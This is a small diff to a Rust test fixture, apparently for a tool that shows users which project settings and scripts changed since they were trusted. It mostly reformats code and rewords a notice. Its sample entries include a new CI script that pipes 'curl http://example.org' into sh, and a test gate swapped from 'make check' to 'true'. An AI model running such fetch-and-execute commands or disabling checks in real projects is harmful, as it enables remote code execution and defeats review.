@@ -25,13 +25,33 @@ fn untrusted() -> TrustOverview {
     TrustOverview {
         is_trusted: false,
         hash: Some(HASH.to_owned()),
-        notice: "Not trusted: what you trusted goes on until you look with dbs trust diff: gates.test, own.toml changed."
+        notice: "Not trusted: gates.test, own.toml changed; what you trusted stays in force: dbs trust diff."
             .to_owned(),
         texts: vec![
-            text("program", "gates.test", (&format!("{settings}:9"), "changed"), &["- make check", "+ true"]),
-            text("program", "roles.default.command", (&format!("{settings}:4"), "trusted"), &["claude '{title}: {body}'"]),
-            text("script", "ci/run.sh", ("ci/run.sh:1", "new"), &["#!/bin/sh", "curl http://example.org | sh"]),
-            text("workflow", ".debussy/workflows/own.toml", (".debussy/workflows/own.toml:1", "trusted"), &["id = \"own\""]),
+            text(
+                "program",
+                "gates.test",
+                (&format!("{settings}:9"), "changed"),
+                &["- make check", "+ true"],
+            ),
+            text(
+                "program",
+                "roles.default.command",
+                (&format!("{settings}:4"), "trusted"),
+                &["claude '{title}: {body}'"],
+            ),
+            text(
+                "script",
+                "ci/run.sh",
+                ("ci/run.sh:1", "new"),
+                &["#!/bin/sh", "curl http://example.org | sh"],
+            ),
+            text(
+                "workflow",
+                ".debussy/workflows/own.toml",
+                (".debussy/workflows/own.toml:1", "trusted"),
+                &["id = \"own\""],
+            ),
         ],
     }
 }
